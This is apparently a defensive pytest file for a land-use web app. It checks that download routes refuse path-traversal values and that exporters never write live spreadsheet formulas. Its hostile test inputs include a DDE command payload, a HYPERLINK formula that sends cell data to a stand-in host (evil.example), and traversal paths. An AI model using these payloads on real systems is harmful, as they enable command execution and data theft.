"""No request value reaches a file path; no text becomes a formula in any workbook or CSV we write.

- Every download route is called with hostile parameters (path traversal, quotes, unknown codes) on
  both backends: each answers 404/422, and no file appears outside the server's private temp folder.
- Enterprise, zone and holder names such as ``=HYPERLINK(...)``, ``=1+1``, ``+cmd``, ``-2+3``,
  ``@SUM(A1)`` are written by every exporter (CLI export, targets, report, web downloads, audit CSV):
  no workbook cell is a formula, and no CSV field starts with a formula trigger unescaped.
"""

from __future__ import annotations

import csv
import io
import sqlite3
import uuid
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from tests.test_web_common import PASSWORDS, ROLES, copy_site, login, make_client, web_site  # noqa: F401

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _hostile_paths(tag: str) -> list[str]:
    return [f"/../../../../../../tmp/{tag}", f"../../{tag}", f"a/../../{tag}", f"{tag}'\"", "NOPE"]


def _assert_no_file(tag: str) -> None:
    leaked = [p for p in Path("/tmp").rglob(f"{tag}*")] if Path("/tmp").exists() else []
    assert not leaked, f"a request value reached a file path: {leaked}"


def _download_urls(zone_value: str, year: int) -> list[str]:
    from urllib.parse import quote

    q = quote(zone_value, safe="")
    return [f"/api/targets.xlsx?zone={q}&year={year}", f"/api/targets.gpkg?zone={q}&year={year}",
            f"/api/reports/{year}/report.xlsx?pilot_area={q}", f"/api/reports/{year}/report.html?pilot_area={q}",
            f"/api/targets?zone={q}&year={year}", f"/api/zones/{q}/dashboard?year={year}",
            f"/api/zones/{q}/parcels.geojson?year={year}", f"/targets?zone={q}&year={year}",
            f"/dashboard?zone={q}&year={year}"]


def _check_hostile_downloads(db: str) -> None:
    app, c = make_client(db)
    login(c, "eval1")
    tag = "landuse_probe_" + uuid.uuid4().hex[:10]
    for value in _hostile_paths(tag):
        for url in _download_urls(value, 2025):
            r = c.get(url)
            assert r.status_code in (400, 404, 422), (url, r.status_code, r.text[:200])
    _assert_no_file(tag)
    # a valid zone still downloads, and the file name carries only safe characters
    from landuse.web import data

    zone = sorted(z["zone_code"] for z in data.zones(app.state.store, _principal("eval1")))[0]
    r = c.get(f"/api/targets.xlsx?zone={zone}&year=2025")
    assert r.status_code == 200 and r.content[:2] == b"PK"
    assert r.headers["content-disposition"] == f'attachment; filename="targets_2025_{zone}.xlsx"'


def _principal(user: str):
    from landuse.web.access import Principal

    return Principal(user, ROLES[user], frozenset())


def test_download_routes_refuse_hostile_values_gpkg(web_site, tmp_path):
    _check_hostile_downloads(str(copy_site(web_site, tmp_path)))


@pytest.mark.postgis
def test_download_routes_refuse_hostile_values_postgis(web_site, pg_db):
    from landuse.services.evaluate import evaluate
    from landuse.core.policy import default_policy
    from landuse.services import accounts as auth
    from parcels.importer import import_package
    from parcels.store import open_store

    store = open_store(pg_db, init=True)
    import_package(web_site.pkg, store)
    evaluate(store, years=[2025], policy=default_policy())
    auth.add_user(store, "eval1", role="evaluator", password=PASSWORDS["eval1"])
    store.close()
    _check_hostile_downloads(pg_db)


# ------------------------------------------------------------------------------------------------
# formula injection
# ------------------------------------------------------------------------------------------------

def _poison(gpkg: Path) -> None:
    """Give firms, holders and zones hostile names, as a careless or malicious package would."""
    from parcels.store.gpkg import _register_gpkg_functions

    with sqlite3.connect(gpkg) as con:
        _register_gpkg_functions(con)  # the GeoPackage's R-tree triggers call them
        ents = [r[0] for r in con.execute("SELECT uscc FROM enterprises ORDER BY uscc LIMIT 50")]
        for i, u in enumerate(ents):
            con.execute("UPDATE enterprises SET name = ? WHERE uscc = ?", (HOSTILE[i % len(HOSTILE)], u))
            con.execute("UPDATE enterprise_results SET name = ? WHERE uscc = ?", (HOSTILE[i % len(HOSTILE)], u))
            con.execute("UPDATE parcel_results SET holder_name = ? WHERE holder_uscc = ?", (HOSTILE[i % len(HOSTILE)], u))
        con.execute("UPDATE zones SET zone_name = '=1+1'")
        con.execute("UPDATE zone_results SET zone_name = '=1+1'")


def _xlsx_formulas(data: bytes) -> list[str]:
    import openpyxl

    wb = openpyxl.load_workbook(io.BytesIO(data))
    bad = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    bad.append(f"{ws.title}!{cell.coordinate}={cell.value!r}")
    with zipfile.ZipFile(io.BytesIO(data)) as z:  # belt and braces: no <f> element in any sheet
        for n in z.namelist():
            if n.startswith("xl/worksheets/") and b"<f>" in z.read(n):
                bad.append(f"{n} holds a <f> element")
    return bad


def _xlsx_has_text(data: bytes, text: str) -> bool:
    import openpyxl

    wb = openpyxl.load_workbook(io.BytesIO(data))
    return any(cell.value == text for ws in wb.worksheets for row in ws.iter_rows() for cell in row)


def _is_number(f: str) -> bool:
    try:
        float(f)
    except ValueError:
        return False
    return True


def _csv_unescaped(text: str) -> list[str]:
    """Fields a spreadsheet would evaluate: starting with a trigger and not a plain number (-0.21 is a
    number, -2+3 a formula)."""
    return [f for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for f in row
            if f.startswith(TRIGGERS) and not _is_number(f)]


def test_no_workbook_holds_a_formula_and_no_csv_field_is_live(web_site, tmp_path):
    from landuse.cli import app as cli

    db = copy_site(web_site, tmp_path)
    _poison(db)
    runner = CliRunner()
    outs: list[Path] = []
    for layer, year in (("enterprises", None), ("enterprise_results", 2025), ("parcel_results", 2025),
                        ("zone_results", 2025), ("zones", None)):
        for ext in ("xlsx", "csv"):
            out = tmp_path / f"{layer}.{ext}"
            args = ["export", layer, "--out", str(out), "--db", str(db)] + (["--year", str(year)] if year else [])
            r = runner.invoke(cli, args)
            assert r.exit_code == 0, r.output
            outs.append(out)
    for ext in ("xlsx", "csv"):
        out = tmp_path / f"targets.{ext}"
        r = runner.invoke(cli, ["targets", "--year", "2025", "--out", str(out), "--db", str(db)])
        assert r.exit_code == 0, r.output
        outs.append(out)
    out = tmp_path / "report.xlsx"
    r = runner.invoke(cli, ["report", "--year", "2025", "--out", str(out), "--db", str(db)])
    assert r.exit_code == 0, r.output
    outs.append(out)

    _app, c = make_client(str(db))
    login(c, "admin1")
    web = {"targets.xlsx": c.get("/api/targets.xlsx?year=2025"), "report.xlsx": c.get("/api/reports/2025/report.xlsx"),
           "audit.csv": c.get("/api/audit.csv")}
    for name, r in web.items():
        assert r.status_code == 200, (name, r.status_code)

    seen_hostile = False
    for p in outs:
        data = p.read_bytes()
        if p.suffix == ".xlsx":
            assert _xlsx_formulas(data) == [], p
            seen_hostile |= _xlsx_has_text(data, "=1+1")
        else:
            assert _csv_unescaped(data.decode("utf-8-sig")) == [], p
            seen_hostile |= "'=1+1" in data.decode("utf-8-sig")
    for name, r in web.items():
        if name.endswith(".xlsx"):
            assert _xlsx_formulas(r.content) == [], name
        else:
            assert _csv_unescaped(r.content.decode("utf-8-sig")) == [], name
    assert seen_hostile  # the hostile names really went through the writers, as text
